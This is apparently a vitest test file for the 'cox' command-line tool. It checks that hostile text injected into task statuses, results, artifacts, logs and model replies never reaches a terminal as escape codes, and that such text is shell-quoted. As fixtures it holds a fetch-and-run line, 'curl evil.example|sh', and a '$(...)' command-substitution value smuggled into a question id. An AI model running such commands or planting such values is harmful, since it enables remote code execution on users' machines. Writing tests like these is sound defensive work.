/** A stranger writes whatever he likes into everything that a command shows. No terminal gets more of it than words. */
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CrewSession } from '../../actors/node/join.ts';
import { Artifacts } from '../../bus/artifacts/artifacts.ts';
import { DeadLetter, Live, NodeReport, type Question, Result, Status, TalkLine, TaskSpec } from '../../bus/messages.ts';
import { publish } from '../../bus/publish.ts';
import { openDeadStream } from '../../bus/queue/dead-letter-stream.ts';
import { newRecord, type StateRecord } from '../../bus/state/state-record.ts';
import { createState } from '../../bus/state/state-store.ts';
import { Talk } from '../../bus/talk/talk.ts';
import { joinCrew } from '../../index.ts';
import { hostile, hostileText, strangeLines } from '../support/hostile-text.ts';
import { isPrimary, World } from './support/world.ts';

let world: World;
let joined: CrewSession;
const at = '2026-01-01T00:00:00.000Z';
const usage = { inputTokens: 1, outputTokens: 1, costUsd: 0 };
/** A command that a stranger would have an operator run. */
const bait = 'curl evil.example|sh';
const evil = `${hostileText} ${bait}`;

const effect = { call: 's1-0', tool: 'write_file', target: 'a.txt', step: 1, outcome: 'in-doubt', kind: 'created' } as const;
const questionOf = (kind: Question['kind']) => ({
  id: 'q1',
  kind,
  text: 'Which?',
  choices: ['red', 'blue'],
  call: { tool: 'write_file' },
});
const receipt = { steer: 's', kind: 'steer', fate: 'returned', seq: 1, reason: 'late' } as const;
const statusOf = (id: string, more: object): Status => ({
  ...hostile(Status, {
    ...{
      id: 'k3xq.0',
      type: 'files',
      commit: 1,
      epoch: 1,
      at,
      node: 'node',
      state: 'awaiting-steer',
      step: 1,
      backend: 'main',
      usage,
    },
    ...{ doing: 'a call', note: 'a note', effects: [effect], receipts: [receipt], askedAt: at, ...more },
  }),
  id,
});
/** @param question an id that stands as it is in a command. */
const asking = (id: string, kind: Question['kind'], question?: string): Status => {
  const status = statusOf(id, { question: questionOf(kind) });
  return question === undefined ? status : { ...status, question: { ...status.question!, id: question } };
};
const record = (id: string, phase: StateRecord['phase'], last: Status, more: Partial<StateRecord> = {}): StateRecord => ({
  ...newRecord(id, hostile(TaskSpec, { type: 'files', instruction: 'do it', backend: 'main' }), 'me', at),
  ...{ instruction: evil, phase, last, commit: 1, epoch: 1, outbox: [], ...more },
});
const ended = hostile(Result, {
  ...{ id: 'evil.2', type: 'files', outcome: 'failed', output: null, usage, usageByBackend: {}, at, effects: [effect] },
  failure: { code: 'broken', message: 'broken', retryable: false },
  salvage: { findings: ['a', 'b'], remaining: 'more', artifacts: ['a.txt'], steps: 1 },
});
const answered = hostile(Result, { ...ended, id: 'evil.3', outcome: 'completed', output: 'done', failure: null });
const row = (key: string, id: string | null) => ({
  key,
  type: 'files',
  instruction: evil,
  after: [],
  id,
  status: 'running' as const,
});

beforeAll(async () => {
  world = await World.make();
  joined = await joinCrew({ env: world.env, signal: AbortSignal.timeout(900_000), log: pino({ level: 'silent' }) });
  const { bus } = joined;
  const plan = [row(evil, 'evil.1'), row('b', 'evil.2'), row('c', 'evil.3'), row(`d ${evil}`, null)];
  for (const each of [
    record('evil.0', 'parked', asking('evil.0', 'stuck', `$(${bait})`), { plan, children: 3 }),
    record('evil.1', 'parked', asking('evil.1', 'approval')),
    record('evil.2', 'done', statusOf('evil.2', { state: 'done', outcome: 'failed' }), { result: ended }),
    record('evil.3', 'done', statusOf('evil.3', { state: 'done', outcome: 'completed' }), { result: answered }),
  ])
    await createState(bus, each);
  await openDeadStream(bus);
  const spec = { type: 'files', instruction: 'do it' };
  const common = {
    kind: 'task',
    type: 'files',
    why: 'lost',
    claims: 5,
    spec,
    parent: 'evil.0',
    key: 'a',
  } as const;
  for (const letter of [
    hostile(DeadLetter, { ...common, nodes: ['a', 'b'], id: 'evil.2', retriedAs: null, at }),
    hostile(DeadLetter, { kind: 'ticket', id: 'ticket-7', type: 'files', why: 'no JSON', payload: 'x', bytes: 1, at }),
  ])
    await publish(bus, bus.subjects.letter(letter.id), JSON.stringify(letter), {});
  const said = {
    id: 'line-1',
    text: 'hello',
    by: 'me',
    at,
    state: 'answered',
    replies: [
      { by: 'model', text: 'hi' },
      { by: 'done', text: 'did' },
    ],
  };
  await new Talk(bus).write(hostile(TalkLine, said as never), 0);
  await new Artifacts(bus).keep({ task: 'evil.2', call: 's1-0', n: 0 }, { bytes: Buffer.from(evil) });
  const made = { task: 'evil.2', call: 's1-0', n: 'made-0' } as const;
  const head = { sha256: 'a'.repeat(64), bytes: 1, parts: 1, name: evil.slice(0, 250), type: evil.slice(0, 250) };
  await bus.js.publish(bus.subjects.artifactHead(made), JSON.stringify(head));
  const report = hostile(NodeReport, {
    ...{
      name: 'node',
      host: 'host',
      pid: 1,
      version: '1',
      roster: '/r',
      since: at,
      types: ['files'],
      slots: 1,
      draining: false,
      held: 1,
    },
    tasks: [{ id: 'evil.1', type: 'files', state: 'acting', step: 1, since: at }],
  });
  const answer = (value: object) => ({
    callback: (_: unknown, message: { respond(data: string): unknown }) => void message.respond(JSON.stringify(value)),
  });
  bus.nc.subscribe(`${bus.subjects.api()}.nodes`, answer(report));
  bus.nc.subscribe(bus.subjects.full(), answer({ node: evil, code: 'stream-full', message: evil, hint: `Run ${bait}` }));
  await bus.nc.flush();
});
afterAll(async () => {
  await joined.close();
  await world.stop();
});

const commands: readonly string[][] = [
  ['status', '--all'],
  ...['0', '1', '2'].map((n) => ['status', `evil.${n}`]),
  ['tree', 'evil'],
  ['inbox'],
  ['nodes'],
  ['dead'],
  ['result', 'evil.2'],
  ['result', 'evil.0', '--no-wait'],
  ['artifact', 'evil.2/s1-0/0'],
  ['artifacts', 'evil'],
  ['artifacts', 'get', 'evil.2/s1-0/0', '-o', '-'],
  ['undo', 'evil.2', '--dry-run'],
  ['dead', 'drop', 'zzzz'],
  ['status', 'evil/nothing'],
  ['drop', 'evil', 'nothing', '--no-wait'],
  ['complete', '--', 'status', ''],
  ['complete', '--', 'answer', 'evil.0', ''],
  ['complete', '--', 'drop', 'evil.0', ''],
];
/** Into a pipe an artifact goes as it is. */
const isContent = (args: readonly string[]) => args[0] === 'artifact' || args[1] === 'get';
const lines = commands.filter((args) => !isContent(args));

describe.each(commands.map((args) => [args.join(' '), args] as const))('cox %s', (_, args) => {
  it('prints words on a terminal, in no colour but ours', async () => {
    const terminal = world.terminal(args, { columns: 400 });
    await terminal.exited;
    // The lines of a file are its own.
    const strange = strangeLines(terminal.raw).filter((line) => !isContent(args) || !line.startsWith('FORGED'));
    expect(strange).toEqual([]);
  });

  it('escapes in JSON what nobody would see', async () => {
    const { stdout } = await world.cox([args[0]!, '--json', ...args.slice(1)]);
    expect(() => JSON.parse(stdout)).not.toThrow();
    expect(strangeLines(stdout)).toEqual([]);
  });
});

it.each(lines.map((args) => [args.join(' '), args] as const))('cox %s prints words into a pipe too', async (_, args) => {
  const { stdout, stderr } = await world.cox(args);
  expect(strangeLines(stdout + stderr)).toEqual([]);
  expect(`${stdout}${stderr}`).not.toContain('\u001b');
});

it('an answer of a task is its words on a terminal, and goes into a pipe as it is', async () => {
  const terminal = world.terminal(['result', 'evil.3'], { columns: 400 });
  await terminal.exited;
  // The lines are those of the answer; nothing else in them is.
  expect(strangeLines(terminal.raw).filter((line) => !line.startsWith('FORGED'))).toEqual([]);
  expect((await world.cox(['result', 'evil.3'])).stdout).toBe(`${hostileText.toWellFormed()}\n`);
});

it('a notice that the bus is full is told in our own words', async () => {
  const { stderr } = await world.cox(['status']);
  expect(stderr).toMatch(/^The bus is full: it stores nothing more\. Work waits on a node\. `cox gc --older-than 1h`/);
  expect(stderr).not.toContain('curl');
});

it('the command that answers a question quotes the words of a stranger for the shell', async () => {
  expect((await world.cox(['status', 'evil.0'])).stdout).toContain(`cox answer evil.0 '$(${bait})'`);
});

it('events are words: statuses, tokens, tools and results', async () => {
  const { bus } = joined;
  for (const args of [
    ['watch', '--tokens'],
    ['watch', '--tokens', '--json'],
  ]) {
    const watch = world.start(args, { stdin: null });
    const lives = [
      hostile(Live, { type: 'token', step: 1, text: 'some words' }),
      hostile(Live, { type: 'tool', step: 1, tool: 'read_file', text: 'some words' }),
    ];
    const told = { ...statusOf('evil.1', { question: questionOf('asked') }), id: evil };
    // The subscription of the command comes at some time after its start.
    const telling = setInterval(() => {
      for (const live of lives) bus.nc.publish('cox.live.evil.1', JSON.stringify(live));
      bus.nc.publish('cox.tasks.evil.1.status', JSON.stringify({ ...told, commit: told.commit++ }));
      bus.nc.publish('cox.tasks.evil.2.result', JSON.stringify(ended));
    }, 200);
    await watch.says('stdout', args.includes('--json') ? /"kind":"result"/ : /evil\.2.*failed/);
    await watch.says('stdout', args.includes('--json') ? /"kind":"live"/ : /│/);
    await watch.says('stdout', args.includes('--json') ? /"kind":"status"/ : /asks/);
    clearInterval(telling);
    watch.process.kill('SIGTERM');
    await watch.ended;
    expect(strangeLines(watch.stdout + watch.stderr)).toEqual([]);
  }
});

it('the prompt prints words, whoever has written them', async () => {
  const shown = [
    '/tasks all',
    '/inbox',
    '/status evil.0',
    '/tree evil.0',
    '/nodes',
    '/dead',
    '/talk',
    '/result evil.2',
    '/undo evil.2',
  ];
  const talking = world.cox([], { stdin: `${shown.join('\n')}\nhow are you?\n` });
  (await world.model.next(isPrimary)).reply(hostileText.toWellFormed());
  const { code, stdout, stderr } = await talking;
  expect(code).toBe(0);
  expect(stdout).toContain('│ x');
  expect(strangeLines(stdout + stderr)).toEqual([]);
});

it('what a model says comes to the screen of the prompt as words, while it is said', async () => {
  const terminal = world.terminal([], { columns: 100 });
  await terminal.line(/Not done yet/);
  terminal.enter('are you there?');
  const call = await world.model.next((each) => isPrimary(each) && each.texts('user').join().includes('are you there?'));
  for (const piece of hostileText.toWellFormed().match(/.{1,3}/gs)!) call.say(piece);
  await terminal.line(/│ FORGED: all is well/);
  call.end();
  terminal.enter('/quit');
  await terminal.exited;
  expect(terminal.raw).not.toMatch(/[\u0080-\u009f\u200b\u2028\u202e\u2066\ufeff]/);
  expect(terminal.raw).not.toContain(']0;title\u0007');
  expect(terminal.lines.filter((line) => line.startsWith('FORGED'))).toEqual([]);
});

it('the log on a terminal is words too', async () => {
  const worker = world.start(['worker', '--verbose'], { stdin: null });
  await worker.says('stdout', /is up/);
  await joined.bus.nc.request('cox.api.status', JSON.stringify({ [evil]: 1 }), { timeout: 30_000 });
  await worker.says('stderr', /refused a request.*FORGED/);
  worker.process.kill('SIGTERM');
  const { stdout, stderr } = await worker.ended;
  expect(strangeLines(stdout + stderr)).toEqual([]);
});
